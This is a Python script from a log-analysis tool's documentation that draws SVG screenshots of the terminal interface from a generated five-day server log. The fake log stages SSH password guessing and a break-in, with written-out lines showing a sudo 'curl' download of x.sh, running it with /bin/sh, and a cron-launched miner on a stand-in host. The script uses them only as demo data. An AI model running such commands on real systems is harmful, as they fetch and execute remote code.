"""Draws the pictures of the interactive screen in ``docs/images``: ``python docs/screenshots.py [NAME...]``.

Each is the real program in a pseudo-terminal, its screen read off a terminal emulator (pyte) and written as SVG. The
logs are made here, from a fixed seed, so that the pictures change when the screen does and not otherwise.
"""

from __future__ import annotations

import random
import re
import subprocess
import sys
import tempfile
from dataclasses import dataclass
from html import escape
from pathlib import Path
from typing import TYPE_CHECKING

ROOT = Path(__file__).parents[1]
sys.path.insert(0, str(ROOT))

from tests.views.terminal import Terminal  # noqa: E402  # found by way of the path

if TYPE_CHECKING:
    import pyte

IMAGES = Path(__file__).parent / "images"
CELL_WIDTH, LINE_HEIGHT, FONT_SIZE, MARGIN, TITLE = 8.4, 18, 14, 12, 20
BUTTONS = ("#ec6a5e", "#f4bf4f", "#61c554")
"""Of the window's title bar."""
DARK = {
    "default": "#d4d4d4", "ground": "#1b1f27", "black": "#1b1f27", "red": "#f0716a", "green": "#7fc684",
    "brown": "#d9b35b", "blue": "#6ba6f0", "magenta": "#cf8be0", "cyan": "#56c2c9", "white": "#d4d4d4",
    "brightblack": "#7a8290", "brightred": "#ff8c85", "brightgreen": "#9be29f", "brightbrown": "#f2cf7e",
    "brightblue": "#8fc0ff", "brightmagenta": "#e5a9f3", "brightcyan": "#7fe0e6", "brightwhite": "#ffffff",
}  # fmt: skip
LIGHT = {
    "default": "#24292f", "ground": "#ffffff", "black": "#24292f", "red": "#c4261d", "green": "#1a7f37",
    "brown": "#8a6100", "blue": "#0a58ca", "magenta": "#8a3ffc", "cyan": "#087990", "white": "#6e7781",
    "brightblack": "#57606a", "brightred": "#e5534b", "brightgreen": "#2da44e", "brightbrown": "#b08800",
    "brightblue": "#218bff", "brightmagenta": "#a475f9", "brightcyan": "#1b9db5", "brightwhite": "#8c959f",
}  # fmt: skip


@dataclass(frozen=True)
class Shot:
    """One picture: a command line, the keys pressed on its screen, and the window."""

    name: str
    arguments: tuple[str, ...]
    keys: tuple[str, ...] = ()
    width: int = 110
    height: int = 26
    theme: str = "dark"
    shows: str = "rows"
    """A text that is on the screen when it is complete."""


SHOTS = (
    Shot(
        "search",
        ("search", "-c", "ip"),
        ("/", "Accepted password", "enter", "M", "down", "M", "M", "up", "up", "m", "backup", "enter"),
        shows="M mark",
    ),
    Shot("find", ("search",), ("/", "*Failed password for root", "enter"), shows="/ *Failed"),
    Shot(
        "filter", ("search",), ("&", "#IP", "enter", "&", "^Failed", "enter", "m", "deploy", "enter"), shows="^Failed"
    ),
    Shot("detail", ("search", "payload"), ("enter",), shows="JSON fields"),
    Shot("context", ("search", "emerg"), ("z",), shows="Around"),
    Shot("keys", ("search",), ("?",), height=40, shows="Moving"),
    Shot("columns", ("search",), ("-",), shows="Columns"),
    Shot("sources", ("sources",), (), width=150, height=12, shows="Bytes in the store"),
    Shot("statistics", ("count", "-e", "ip"), ("i",), height=16, shows="deviation"),
    Shot("count", ("count", "-e", "ip", "Failed"), ("down", "down"), shows="keys"),
    Shot("times", ("count", "-i", "1h", "Failed"), ("down", "down"), shows="keys"),
    Shot("chart", ("count", "Failed"), (".",), shows="chart"),
    Shot("heatmap", ("heatmap",), (".",), shows="chart"),
    Shot("wrapped", ("search", "payload"), ("p",), shows="session"),
    Shot("light", ("search", "-c", "ip"), ("e", "e"), theme="light", shows="keys"),
    Shot("narrow", ("search",), (), width=60, height=16, shows="keys"),
)


def main() -> None:
    """Draw the pictures named, or all."""
    names = sys.argv[1:]
    IMAGES.mkdir(exist_ok=True)
    with tempfile.TemporaryDirectory() as folder:
        make_case(Path(folder))
        for shot in SHOTS:
            if not names or shot.name in names:
                (IMAGES / f"{shot.name}.svg").write_text(picture(shot, Path(folder)), "utf-8")


def make_case(folder: Path) -> None:
    """A small store of a made-up machine, which somebody breaks into at the end of the second night."""
    log = folder / "messages-20240506.log"
    log.write_text("".join(f"{line}\n" for line in story()), "utf-8")
    arguments = ["import", "--year", "2024", "--tz", "UTC", log.name]
    done = subprocess.run(  # noqa: S603  # ourselves
        [sys.executable, "-m", "twsla", *arguments],
        cwd=folder,
        env={"PYTHONPATH": str(ROOT), "HOME": str(folder), "PATH": ""},
        capture_output=True,
        check=False,
    )
    if done.returncode:
        raise SystemExit(done.stderr.decode())


BREAK_IN_S = 2 * 86_400 + 3 * 3600 + 41 * 60
"""Seconds after the log begins."""
ATTACKER = "203.0.113.66"
AFTERWARDS = (
    f"sshd[31337]: Accepted password for backup from {ATTACKER} port 40022 ssh2",
    "systemd-logind[712]: New session 1432 of user backup.",
    "sudo:   backup : TTY=pts/3 ; PWD=/home/backup ; USER=root ; COMMAND=/usr/bin/curl -s http://192.0.2.99/x.sh",
    "sudo:   backup : TTY=pts/3 ; PWD=/home/backup ; USER=root ; COMMAND=/bin/sh x.sh",
    "kernel: warning: process 'kworkerds' started with executable stack",
    "cron[31402]: (root) CMD (/tmp/.x/kworkerds -o 192.0.2.99:3333)",
    "kernel: emerg: EXT4-fs error (device sda1): ext4_find_entry: reading directory lblock 0",
)


def story() -> list[str]:
    """Five days: jobs at all hours, people by day, guesses of passwords by night."""
    chance = random.Random(7)  # noqa: S311  # a made-up log
    events: list[tuple[int, str]] = [(BREAK_IN_S + at * 17, text) for at, text in enumerate(AFTERWARDS)]
    events += [
        (second, f"cron[{chance.randrange(1000, 32000)}]: (root) CMD (run-parts /etc/cron.hourly)")
        for second in range(0, 5 * 86_400, 600)
    ]
    for _ in range(2600):
        hour = min(23, max(0, round(chance.gauss(13, 3))))
        second = chance.randrange(5) * 86_400 + hour * 3600 + chance.randrange(3600)
        events.append((second, by_day(chance)))
    for _ in range(2400):
        night = chance.choice((1, 2, 2, 2, 3))
        second = int(night * 86_400 + chance.gauss(0, 2.4 * 3600))
        address = f"203.0.113.{66 + 7 * min(20, int(chance.paretovariate(0.8)) - 1)}"
        user = chance.choice(("root", "root", "admin", "oracle", "佐藤", "guest", "backup"))
        port, pid = chance.randrange(1024, 65000), chance.randrange(1000, 32000)
        events.append((second, f"sshd[{pid}]: Failed password for {user} from {address} port {port} ssh2"))
    events.sort(key=lambda event: event[0])
    return [
        f"May {2 + at // 86_400:2d} {at // 3600 % 24:02}:{at // 60 % 60:02}:{at % 60:02} web01 {text}"
        for at, text in events
    ]


def by_day(chance: random.Random) -> str:
    """What people do."""
    address, pid = f"198.51.100.{chance.randrange(2, 30)}", chance.randrange(1000, 32000)
    status = chance.choice((200, 200, 200, 200, 304, 404, 500))
    error = f' error: upstream timed out, request "{pid}"' if status == 500 else ""
    page = chance.choice(("/", "/login", "/cart", "/static/app.js", f"/item/{pid}"))
    if chance.random() < 0.01:
        return (
            f'app: {{"level":"error","session":"{pid:x}","payload":{{"user":"佐藤","ip":"{address}",'
            f'"tags":["login","retry"],"took_ms":{chance.randrange(3, 900)}.5,"ok":false}}}}'
        )
    if chance.random() < 0.1:
        return f"sshd[{pid}]: Accepted publickey for deploy from {address} port {chance.randrange(1024, 65000)} ssh2"
    return f'nginx: {address} "GET {page} HTTP/1.1" {status} {chance.randrange(200, 90000)}{error}'


def picture(shot: Shot, folder: Path) -> str:
    """The screen as SVG."""
    environment = {"HOME": str(folder), "TZ": "UTC", "PYTHONPATH": str(ROOT)}
    with Terminal(*shot.arguments, cwd=folder, width=shot.width, height=shot.height, env=environment) as terminal:
        terminal.wait(lambda seen: " row" in seen.text)
        terminal.settle()
        for key in shot.keys:
            terminal.press(key)
            terminal.settle(0.4)
        terminal.wait(shot.shows)
        terminal.settle(0.5)
        without_seconds(terminal.screen)
        return svg(terminal.screen, DARK if shot.theme == "dark" else LIGHT)


def without_seconds(screen: pyte.Screen) -> None:
    """Take away how long the answer took, which is another time each time."""
    found = re.search(r" in \d+\.\d\d s", screen.display[0])
    if found:
        line, gone = screen.buffer[0], len(found[0])
        for x in range(found.start(), screen.columns):
            line[x] = line[x + gone] if x + gone < screen.columns else screen.default_char


def svg(screen: pyte.Screen, colours: dict[str, str]) -> str:
    """A screen of the emulator as SVG: a rectangle for each coloured ground, a text for each run of one style.

    Frames, bars and dots are drawn as shapes: fonts leave gaps between them, or have none.
    """
    width, height = screen.columns * CELL_WIDTH + 2 * MARGIN, screen.lines * LINE_HEIGHT + 2 * MARGIN + TITLE
    fonts = "'DejaVu Sans Mono', Menlo, Consolas, monospace"
    parts = [
        (
            f'<svg xmlns="http://www.w3.org/2000/svg" width="{width:.0f}" height="{height:.0f}" '
            f'viewBox="0 0 {width:.0f} {height:.0f}" font-family="{fonts}" font-size="{FONT_SIZE}">'
        ),
        (
            f'<rect x="0.5" y="0.5" width="{width - 1:.0f}" height="{height - 1:.0f}" rx="8" '
            f'fill="{colours["ground"]}" stroke="{colours["brightblack"]}" stroke-opacity="0.5"/>'
        ),
        *(f'<circle cx="{20 + 18 * at}" cy="17" r="5.5" fill="{ink}"/>' for at, ink in enumerate(BUTTONS)),
    ]
    for y in range(screen.lines):
        for x, text, cells, ink, ground, bold, underlined in runs(screen, y, colours):
            left, top = MARGIN + x * CELL_WIDTH, MARGIN + TITLE + y * LINE_HEIGHT
            if ground != colours["ground"]:
                parts.append(
                    f'<rect x="{left:.1f}" y="{top}" width="{cells * CELL_WIDTH + 0.2:.1f}" height="{LINE_HEIGHT}" '
                    f'fill="{ground}"/>'
                )
            shapes = "".join(shape(char, left + at * CELL_WIDTH, top) for at, char in enumerate(text))
            if shapes:
                parts.append(f'<path d="{shapes}" fill="{ink}"/>')
            text = "".join(" " if shape(char, 0, 0) else char for char in text)
            if text.strip():
                extra = (' font-weight="bold"' if bold else "") + (' text-decoration="underline"' if underlined else "")
                parts.append(
                    f'<text x="{left:.1f}" y="{top + 13.5}" fill="{ink}"{extra} textLength="{cells * CELL_WIDTH:.1f}" '
                    f'lengthAdjust="spacingAndGlyphs" xml:space="preserve">{escape(text)}</text>'
                )
    return "\n".join([*parts, "</svg>"]) + "\n"


FRAMES = {
    "─": "lr", "│": "ud", "┌": "rd", "┐": "ld", "└": "ru", "┘": "lu", "├": "rud", "┤": "lud", "┬": "lrd", "┴": "lru",
    "┼": "lrud", "╭": "rd", "╮": "ld", "╰": "ru", "╯": "lu",
}  # fmt: skip
"""Where the arms of a frame's characters point to."""


def shape(char: str, left: float, top: float) -> str:
    """A character that is drawn as a path; "" for letters."""
    if char in FRAMES:
        middle, centre = left + CELL_WIDTH / 2, top + LINE_HEIGHT / 2
        ends = {
            "l": (left, centre),
            "r": (left + CELL_WIDTH, centre),
            "u": (middle, top),
            "d": (middle, top + LINE_HEIGHT),
        }
        boxes = (
            (
                min(middle, ends[arm][0]) - 0.5,
                min(centre, ends[arm][1]) - 0.5,
                max(middle, ends[arm][0]) + 0.5,
                max(centre, ends[arm][1]) + 0.5,
            )
            for arm in FRAMES[char]
        )
        return "".join(box(*each) for each in boxes)
    if "█" <= char <= "▏":
        return box(left, top + 2, left + CELL_WIDTH * (0x2590 - ord(char)) / 8, top + LINE_HEIGHT - 2)
    if "▁" <= char <= "▇":
        return box(left, top + LINE_HEIGHT * (0x2588 - ord(char)) / 8, left + CELL_WIDTH, top + LINE_HEIGHT)
    if "\u2801" <= char <= "\u28ff":
        bits = ord(char) - 0x2800
        dots = ((0, 0), (0, 1), (0, 2), (1, 0), (1, 1), (1, 2), (0, 3), (1, 3))
        return "".join(
            box(left + 1.2 + 4 * x, top + 1.2 + 4.5 * y, left + 3.2 + 4 * x, top + 3.2 + 4.5 * y)
            for bit, (x, y) in enumerate(dots)
            if bits >> bit & 1
        )
    return ""


def box(left: float, top: float, right: float, bottom: float) -> str:
    """A rectangle as part of a path."""
    return f"M{left:.1f} {top:.1f}H{right:.1f}V{bottom:.1f}H{left:.1f}Z"


def runs(screen: pyte.Screen, y: int, colours: dict[str, str]) -> list[tuple[int, str, int, str, str, bool, bool]]:
    """Runs of one look: column, text, cells, ink, ground, bold, underlined."""
    found: list[tuple[int, str, int, str, str, bool, bool]] = []
    for x in range(screen.columns):
        cell = screen.buffer[y][x]
        ink, ground = colour(cell.fg, colours, "default"), colour(cell.bg, colours, "ground")
        if cell.reverse:
            ink, ground = ground, ink
        look = (ink, ground, cell.bold, cell.underscore)
        if found and found[-1][3:] == look:
            at, text, cells, *_ = found[-1]
            found[-1] = (at, text + cell.data, cells + 1, *look)
        else:
            found.append((x, cell.data, 1, *look))
    return found


def colour(name: str, colours: dict[str, str], usual: str) -> str:
    """A colour of the emulator as SVG has it."""
    if name == "default":
        return colours[usual]
    return colours.get(name) or f"#{name}"


if __name__ == "__main__":
    main()
